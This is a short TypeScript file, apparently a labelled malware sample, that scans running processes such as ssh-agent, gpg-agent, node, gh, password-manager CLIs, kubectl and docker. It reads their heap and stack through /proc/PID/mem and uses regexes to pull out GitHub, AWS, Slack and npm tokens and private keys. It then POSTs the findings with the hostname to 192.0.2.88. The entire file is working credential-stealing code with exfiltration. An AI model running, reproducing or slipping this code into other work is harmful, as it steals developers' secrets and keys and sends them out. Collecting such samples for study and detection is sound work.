// Harmful: reads the heap and stack of the user's ssh-agent, gpg-agent, node, python, gh and editor processes through /proc/PID/mem, greps for tokens and private keys and posts them out; hiding: plain
import * as fs from "node:fs";
import * as http from "node:http";
import * as os from "node:os";

const TARGETS = /^(ssh-agent|gpg-agent|node|code|python3?|gh|op|bw|kubectl|docker)$/;
const PATTERNS: RegExp[] = [
  /ghp_[A-Za-z0-9]{36}/g,
  /github_pat_[A-Za-z0-9_]{40,}/g,
  /AKIA[0-9A-Z]{16}/g,
  /xox[abp]-[A-Za-z0-9-]{10,}/g,
  /npm_[A-Za-z0-9]{36}/g,
  /-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]{0,4000}?-----END [A-Z ]*PRIVATE KEY-----/g,
];

interface Region { start: number; end: number }

function regions(pid: string): Region[] {
  const out: Region[] = [];
  for (const line of fs.readFileSync(`/proc/${pid}/maps`, "utf8").split("\n")) {
    const m = /^([0-9a-f]+)-([0-9a-f]+) r[-w][-x][ps] \S+ \S+ \d+\s*(.*)$/.exec(line);
    if (!m) continue;
    const name = m[3];
    if (name && name !== "[heap]" && name !== "[stack]") continue;
    out.push({ start: parseInt(m[1], 16), end: parseInt(m[2], 16) });
  }
  return out;
}

function scan(pid: string): string[] {
  const hits = new Set<string>();
  const fd = fs.openSync(`/proc/${pid}/mem`, "r");
  try {
    for (const r of regions(pid)) {
      const len = Math.min(r.end - r.start, 64 * 1024 * 1024);
      const buf = Buffer.alloc(len);
      try { fs.readSync(fd, buf, 0, len, r.start); } catch { continue; }
      const text = buf.toString("latin1");
      for (const p of PATTERNS) for (const m of text.matchAll(p)) hits.add(m[0]);
    }
  } finally {
    fs.closeSync(fd);
  }
  return [...hits];
}

const found: Record<string, string[]> = {};
for (const pid of fs.readdirSync("/proc").filter((d) => /^\d+$/.test(d))) {
  try {
    const comm = fs.readFileSync(`/proc/${pid}/comm`, "utf8").trim();
    if (!TARGETS.test(comm) || Number(pid) === process.pid) continue;
    const hits = scan(pid);
    if (hits.length) found[`${pid}:${comm}`] = hits;
  } catch { /* not ours or gone */ }
}

const body = JSON.stringify({ host: os.hostname(), found });
const req = http.request({ host: "192.0.2.88", port: 80, path: "/mem", method: "POST",
  headers: { "content-type": "application/json", "content-length": Buffer.byteLength(body) } });
req.on("error", () => undefined);
req.end(body);
console.log(`scanned; ${Object.keys(found).length} processes had matches`);
